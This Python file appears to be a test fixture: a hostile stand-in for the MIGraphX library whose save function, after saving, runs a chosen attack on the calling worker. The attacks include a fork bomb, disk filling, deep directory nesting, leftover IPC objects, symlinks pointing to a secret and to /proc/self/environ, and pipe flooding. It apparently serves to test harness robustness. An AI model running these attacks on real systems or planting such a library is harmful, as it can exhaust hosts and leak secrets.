"""A hostile MIGraphX: it plays the stand-in, and when it has saved its program it attacks by what it leaves, or takes.

`targets.json` next to it names the attack, and a secret of the worker's.
"""

# ruff: noqa (plain calls, as an attacker writes them, and the stand-in last)

import ctypes
import json
import os
import signal
import stat
from pathlib import Path

import standin_migraphx
from standin_migraphx import *
from standin_migraphx import __version__

T = {}
LIBC = ctypes.CDLL(None, use_errno=True)
IPC = {
    "x86_64": {"shmget": 29, "semget": 64, "msgget": 68},
    "aarch64": {"shmget": 194, "semget": 190, "msgget": 186},
}[os.uname().machine]


def in_place(path, make):
    Path(path).unlink(missing_ok=True)
    make(path)


def nested(folder):
    os.chdir(folder)
    for _ in range(1500):
        os.mkdir("deep")
        os.chdir("deep")


def pipes():
    """Its ends of pipes that can be written to: the one to the worker is among them."""
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            if number > 2 and stat.S_ISFIFO(os.fstat(number).st_mode):
                os.write(number, b"")
                yield number
        except OSError:
            continue


def talk_for_ever():
    ends = list(pipes())
    while True:
        for end in ends:
            os.write(end, b"[" * (1 << 16))


def fork_for_ever():
    while True:
        try:
            if os.fork() == 0:
                signal.pause()
        except OSError:
            signal.pause()


def fill(folder, *, named):
    os.chdir(folder)
    held = []
    for number in range(1 << 20):
        held.append(open(f"more-{number}", "wb", buffering=0))
        held[-1].write(bytes(1 << 22))
        if not named:
            os.unlink(f"more-{number}")
        else:
            held.pop().close()


def leave_ipc():
    LIBC.syscall(IPC["shmget"], T["key"], 1 << 20, 0o1600)
    LIBC.syscall(IPC["semget"], T["key"], 1, 0o1600)
    LIBC.syscall(IPC["msgget"], T["key"], 0o1600)
    os._exit(3)


ATTACKS = {
    "program is a link": lambda program: in_place(program, lambda path: os.symlink(T["secret"], path)),
    "text is a pipe": lambda program: os.mkfifo(program.with_name("program-before.txt")),
    "folders without end": lambda program: nested(program.parent),
    "disk": lambda program: fill(program.parent, named=True),
    "processes": lambda program: fork_for_ever(),
    "IPC": lambda program: leave_ipc(),
    "text is a link": lambda program: os.symlink("/proc/self/environ", program.with_name("program-after.txt")),
    "program is a pipe": lambda program: in_place(program, os.mkfifo),
    "link to everything": lambda program: os.symlink("/", program.with_name("everything")),
    "second name": lambda program: os.link(program, program.with_name("program-before.txt")),
    "program is a folder": lambda program: in_place(program, os.mkdir),
    "disk without a name": lambda program: fill(program.parent, named=False),
    "answer without end": lambda program: talk_for_ever(),
    "none": lambda program: None,
}


def save(p, filename, format="msgpack"):
    standin_migraphx.save(p, filename, format)
    T.update(json.loads((Path(__file__).parent / "targets.json").read_text()))
    ATTACKS[T["attack"]](Path(filename))
